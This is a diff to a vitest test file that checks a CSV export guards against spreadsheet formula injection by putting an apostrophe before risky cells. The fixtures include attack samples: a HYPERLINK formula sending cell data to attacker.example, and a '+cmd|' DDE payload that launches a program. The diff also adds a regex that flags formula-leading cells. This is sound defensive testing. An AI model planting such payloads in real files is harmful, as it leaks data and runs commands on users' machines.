@@ -1,6 +1,7 @@
 /**
  * standards.csv reads back, with a strict RFC 4180 parser, to exactly the text
- * of the content, and every field of the record has its column.
+ * of the content, except that a cell a spreadsheet would run as a formula
+ * carries an apostrophe in front; and every field of the record has its column.
  */
 import { describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
@@ -26,15 +27,25 @@ describe('one CSV cell', () => {
     ['two\nlines', '"two\nlines"'],
     ['人工智能，安全', '人工智能，安全'],
     ['', ''],
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['=HYPERLINK("https://example.org","x")', '"\'=HYPERLINK(""https://example.org"",""x"")"'],
+    ['a-b = c', 'a-b = c'],
+    ["'quoted already", "'quoted already"],
   ])('%j → %j', (input, out) => expect(csvField(input)).toBe(out));
 });
 
 describe('standards.csv', () => {
   const raw = loadContent(FIXTURE);
   const [first, second] = raw.standards.map((s) => s.data as any);
-  // Awkward characters in a title must survive the round trip.
-  first.title.en = 'Requirements, "basic"\nand more';
-  second.title.en = 'Say "when", or not';
+  // Titles a reader could not type into a cell without the spreadsheet acting on them.
+  first.title.en = '=HYPERLINK("https://attacker.example/?"&A1,"Click, please")';
+  first.title.zh = '@SUM(1+1)\n第二行';
+  second.title.en = '-2+3 "minus", and more';
+  second.title.zh = "+cmd|' /C calc'!A0";
   const tax = modelOf(raw);
   const file = standardsJson(tax, meta);
   const csv = standardsCsv(file);
@@ -52,11 +63,13 @@ describe('standards.csv', () => {
     for (const row of rows) expect(row).toHaveLength(NAMES.length);
   });
 
-  it('gives each cell the record’s text', () => {
+  it('gives each cell the record’s text, with an apostrophe before a formula', () => {
     const [, gbt, tc] = rows;
-    expect(gbt![col('title_en')]).toBe('Requirements, "basic"\nand more');
-    expect(gbt![col('title_zh')]).toBe('网络安全技术 生成式人工智能服务安全基本要求');
-    expect(tc![col('title_en')]).toBe('Say "when", or not');
+    expect(gbt![col('title_en')]).toBe('\'=HYPERLINK("https://attacker.example/?"&A1,"Click, please")');
+    expect(gbt![col('title_zh')]).toBe("'@SUM(1+1)\n第二行");
+    expect(tc![col('title_en')]).toBe('\'-2+3 "minus", and more');
+    expect(tc![col('title_zh')]).toBe("'+cmd|' /C calc'!A0");
+    // Everything else is the record's own text.
     expect(gbt![col('number')]).toBe('GB/T 45654-2025');
     expect(gbt![col('status_in_v1')]).toBe('in-development');
     expect(gbt![col('membership_in_v1_en')]).toBe('Inferred as listed');
@@ -64,6 +77,14 @@ describe('standards.csv', () => {
     expect(gbt![col('build_date')]).toBe('2026-11-25');
     expect(gbt![col('url')]).toBe('https://example.org/repo/standards/gb-t-45654-2025/');
     expect(tc![col('successor')]).toBe('');
+  });
+
+  it('leaves no cell that a spreadsheet would run', () => {
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps the text unchanged in the JSON', () => {
+    expect(file.standards[0]!.title.en).toBe('=HYPERLINK("https://attacker.example/?"&A1,"Click, please")');
   });
 });
 
